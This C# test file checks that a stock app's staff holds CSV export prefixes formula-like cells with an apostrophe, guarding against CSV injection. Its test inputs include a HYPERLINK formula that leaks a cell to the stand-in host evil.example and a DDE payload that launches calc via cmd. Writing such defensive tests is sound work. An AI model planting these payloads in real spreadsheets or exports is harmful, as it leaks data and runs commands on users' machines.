using System.Net;
using System.Text;
using BlazorStock.Domain.Holds;
using BlazorStock.Tests.Support;
using BlazorStock.Web.Features.Staff.Holds;
using BlazorStock.Web.Staff;
using Microsoft.EntityFrameworkCore;
using Microsoft.AspNetCore.Mvc.Testing;

namespace BlazorStock.Tests.Reliability;

/// <summary>
/// CSV injection (issue 19): the holds export never hands a spreadsheet a cell it would run as a formula. A
/// cell starting with <c>=</c>, <c>+</c>, <c>-</c>, <c>@</c>, a tab or a carriage return gets an apostrophe in
/// front, and reads back as the text that was stored.
/// </summary>
public sealed class CsvInjectionTests
{
    private static readonly string[] Formulas =
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
    ];

    [Fact]
    public async Task The_holds_export_neutralises_every_cell_a_spreadsheet_would_run_as_a_formula()
    {
        await using var factory = new ApiFactory();
        foreach (var formula in Formulas)
        {
            var product = await factory.ProductAsync(5, name: formula);
            var held = await factory.RunAsync<HoldService, HoldResult>(h => h.HoldAsync(new HoldRequest(HoldOwner.Manual(formula), product.Id, 1), CancellationToken.None));
            await factory.RunAsync<HoldService, HoldSnapshot>(h => h.ReleaseAsStaffAsync(held.Hold.Id, $"{formula} as a reason", CancellationToken.None));
        }

        var stored = await factory.DbAsync(db => db.Holds.AsNoTracking()
            .Join(db.Products, h => h.ProductId, p => p.Id, (h, p) => new { h.Id, p.Name, h.OwnerId, h.CloseReason })
            .ToDictionaryAsync(h => h.Id.ToString()));

        var rows = Csv(await ExportAsync(factory, "/staff/holds/export.csv?status=Released"));

        Assert.Equal(HoldCsv.Header.Split(','), rows[0]);
        Assert.Equal(Formulas.Length, rows.Count - 1);
        Assert.DoesNotContain(rows.Skip(1).SelectMany(r => r), c => c.Length > 0 && c[0] is '=' or '+' or '-' or '@' or '\t' or '\r');
        var column = rows[0].ToList();
        foreach (var row in rows.Skip(1))
        {
            // Each neutralised cell is the stored text behind one apostrophe, which a spreadsheet shows as text.
            var hold = stored[row[column.IndexOf("id")]];
            Assert.Equal("'" + hold.Name, row[column.IndexOf("product")]);
            Assert.Equal("'" + hold.OwnerId, row[column.IndexOf("owner_id")]);
            Assert.Equal(hold.CloseReason, row[column.IndexOf("close_reason")]);
        }
    }

    [Fact]
    public void Plain_cells_are_left_as_they_are_and_quoted_only_when_needed()
    {
        Assert.Equal("Desk lamp", HoldCsv.Cell("Desk lamp"));
        Assert.Equal("\"Lamp, \"\"big\"\"\"", HoldCsv.Cell("Lamp, \"big\""));
        Assert.Equal("\"'=1,2\"", HoldCsv.Cell("=1,2"));
        Assert.Equal("", HoldCsv.Cell(null));
    }

    private static async Task<string> ExportAsync(ApiFactory factory, string path)
    {
        using var client = factory.CreateClient(new WebApplicationFactoryClientOptions { AllowAutoRedirect = false, HandleCookies = false });
        using var request = new HttpRequestMessage(HttpMethod.Get, path);
        request.Headers.Add("Cookie", await factory.StaffCookieAsync(StaffSeeder.StaffEmail));
        using var response = await client.SendAsync(request);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        return await response.Content.ReadAsStringAsync();
    }

    /// <summary>RFC 4180, as a spreadsheet reads it: quoted cells may hold commas, quotes and line breaks.</summary>
    private static List<string[]> Csv(string text)
    {
        var rows = new List<string[]>();
        var row = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                row.Add(cell.ToString());
                cell.Clear();
            }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
            {
                row.Add(cell.ToString());
                cell.Clear();
                rows.Add([.. row]);
                row.Clear();
                i++;
            }
            else
            {
                cell.Append(c);
            }
        }

        return rows;
    }
}
